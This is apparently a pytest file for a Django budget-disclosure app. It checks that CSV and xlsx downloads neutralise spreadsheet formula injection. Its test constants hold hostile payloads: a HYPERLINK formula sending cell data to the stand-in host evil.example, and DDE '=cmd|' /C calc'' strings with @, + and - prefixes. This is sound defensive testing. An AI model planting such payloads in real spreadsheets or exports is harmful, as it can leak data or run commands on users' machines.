"""Formula injection: a 科目名称 that a spreadsheet would run (=HYPERLINK that leaks a cell,
=cmd|…, @…, +…, -…), uploaded in a department's workbook and published, comes out of every
download as text: in CSV with an apostrophe first, in xlsx as a string cell, never a
formula. Amounts stay numbers (a negative one unchanged). All writing goes through
accounts_app.exporting.cells; the pure checks of it are at the end."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from openpyxl import Workbook

from accounts_app.exporting.cells import csv_cell, csv_text, put
from accounts_app.models import Department, Figure, Line
from accounts_app.services import workflow
from accounts_app.services.organisations import disclosure_ensure
from tests.conftest import seed_workbook
from tests.statements import state_the_rest
from tests.workflow.conftest import make_user

pytestmark = pytest.mark.django_db

SEED, SHEET = "000", "公开02表"  # the 收入决算表 of seed 000: 科目名称 in column B
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
# cell of the 科目名称 → (row key, hostile label)
HOSTILE = {
    "B11": ("2080502", HYPERLINK),
    "B12": ("2080505", "=cmd|' /C calc'!A0"),
    "B13": ("20899", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "B14": ("2089999", "+1+2-cmd|' /C calc'!A0"),
    "B16": ("21001", "-2+3+cmd|' /C calc'!A0"),
}
LABELS = {label for _, label in HOSTILE.values()}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
AMOUNT = re.compile(r"^(-?\d+\.\d{2})?$")


def hostile_workbook() -> bytes:
    """Seed 000's workbook with hostile labels typed as text (what a department's file holds:
    a string cell, which the importer reads as it is)."""
    book = openpyxl.load_workbook(seed_workbook(SEED))
    for cell, (_, label) in HOSTILE.items():
        put(book[SHEET][cell], label)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.fixture
def published(seed_disclosure):
    """Seed 000 with the hostile labels, uploaded, reviewed and published (as tests.conftest's
    publish_workbook, from these bytes)."""
    actor = workflow.Actor(make_user("boss", "admin"))
    outcome = workflow.version_upload(
        disclosure=seed_disclosure(SEED), data=hostile_workbook(), filename="seed_000.xlsx", actor=actor
    )
    assert outcome.accepted, [str(p) for p in outcome.errors]
    version = outcome.version
    stored = dict(Line.objects.filter(table__version=version, table__table="income").values_list("key", "label"))
    assert {stored[key] for key, _ in HOSTILE.values()} == LABELS  # stored as uploaded
    state_the_rest(version)
    for finding in version.findings.filter(severity="warning"):
        workflow.warning_explain(finding=finding, actor=actor, text="万元换算尾差")
    workflow.version_submit(version=version, actor=actor)
    workflow.version_approve(version=version, actor=actor)
    return workflow.version_publish(version=version, actor=actor)


def _base(version) -> str:
    return f"/disclosures/{version.disclosure_id}/versions/{version.number}"


def _body(response) -> bytes:
    """The file downloaded (a stored file is streamed)."""
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv(response) -> list[list[str]]:
    text = _body(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _assert_defused(rows: list[list[str]], numbers: int | None = None) -> None:
    """The hostile labels with their apostrophe, and no text cell that starts a formula
    (`numbers`: the index of a column of amounts, which may be negative)."""
    cells = {cell for row in rows for index, cell in enumerate(row) if index != numbers}
    assert {f"'{label}" for label in LABELS} <= cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def _assert_no_formula(data: bytes, labels: set[str] = LABELS) -> None:
    """No cell a formula, in openpyxl's reading and in the sheets' XML; the labels as strings."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    found = {cell.value: cell.data_type for cell in cells if cell.value in labels}
    assert found == dict.fromkeys(labels, "s")


def test_the_table_csv_defuses_the_labels(client, published):
    rows = _csv(client.get(f"{_base(published)}/tables/income.csv"))
    _assert_defused(rows)
    hyperlink = next(row for row in rows if row[0] == "2080502")
    assert hyperlink[1] == f"'{HYPERLINK}" and hyperlink[2] == "0.66"  # the amount untouched


def test_the_table_xlsx_writes_the_labels_as_text(client, published):
    _assert_no_formula(_body(client.get(f"{_base(published)}/tables/income.xlsx")))


def test_the_whole_workbook_writes_the_labels_as_text(client, published):
    _assert_no_formula(_body(client.get(f"{_base(published)}/tables.xlsx")))


def test_the_years_figures_csv_defuses_the_labels_and_keeps_amounts_numbers(client, published):
    row = Line.objects.get(table__version=published, table__table="income", key="2080502")
    Figure.objects.filter(line=row).update(amount=Decimal("-12.50"))  # a negative amount, as stored
    rows = _csv(client.get("/api/years/2023/figures.csv"))
    header, body = rows[0], rows[1:]
    label, amount = header.index("项目/科目名称 row_name"), header.index("金额 amount")
    _assert_defused(rows, numbers=amount)
    assert all(AMOUNT.match(line[amount]) for line in body)
    hyperlink = [line for line in body if line[label] == f"'{HYPERLINK}"]
    assert hyperlink and {line[amount] for line in hyperlink} == {"-12.50"}


def test_the_board_csv_defuses_names(client, published):
    region = published.disclosure.department.region
    Department.objects.create(region=region, name=HYPERLINK)
    rows = _csv(client.get(f"/board/board.csv?region={region.code}&year=2023"))
    assert f"'{HYPERLINK}" in {cell for row in rows for cell in row}
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_the_blank_template_writes_names_as_text(client, seed_disclosure):
    region = seed_disclosure(SEED).department.region
    disclosure = disclosure_ensure(region=region, entity=HYPERLINK, year=2023, kind="department")
    client.force_login(make_user("boss", "admin"))
    data = _body(client.get(f"/work/disclosures/{disclosure.pk}/template.xlsx"))
    _assert_no_formula(data, labels=set())
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert any(HYPERLINK in str(cell.value) for row in book.worksheets[0].iter_rows(max_row=3) for cell in row)


# -- the writer itself -----------------------------------------------------------------


@pytest.mark.parametrize("text", [HYPERLINK, "+1", "-1", "@A1", "\t=1", "\r=1", "-12.50"])
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert csv_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value, written", [(Decimal("-12.50"), "-12.50"), (Decimal("1085.6"), "1085.60"), (-3, "-3"), (2023, "2023"), (None, "")]
)
def test_numbers_stay_numbers(value, written):
    assert csv_cell(value) == written


def test_ordinary_text_is_unchanged_and_csv_starts_with_the_bom():
    assert csv_text([["科目名称", "2080505", "——"]]) == "\ufeff科目名称,2080505,——\r\n"


def test_an_xlsx_cell_is_a_string_or_a_number():
    sheet = Workbook().active
    assert put(sheet["A1"], HYPERLINK).data_type == "s"
    assert put(sheet["A2"], Decimal("-12.50")).data_type == "n"
    assert put(sheet["A3"], "行\x01政").value == "行政"  # what XML cannot hold is dropped
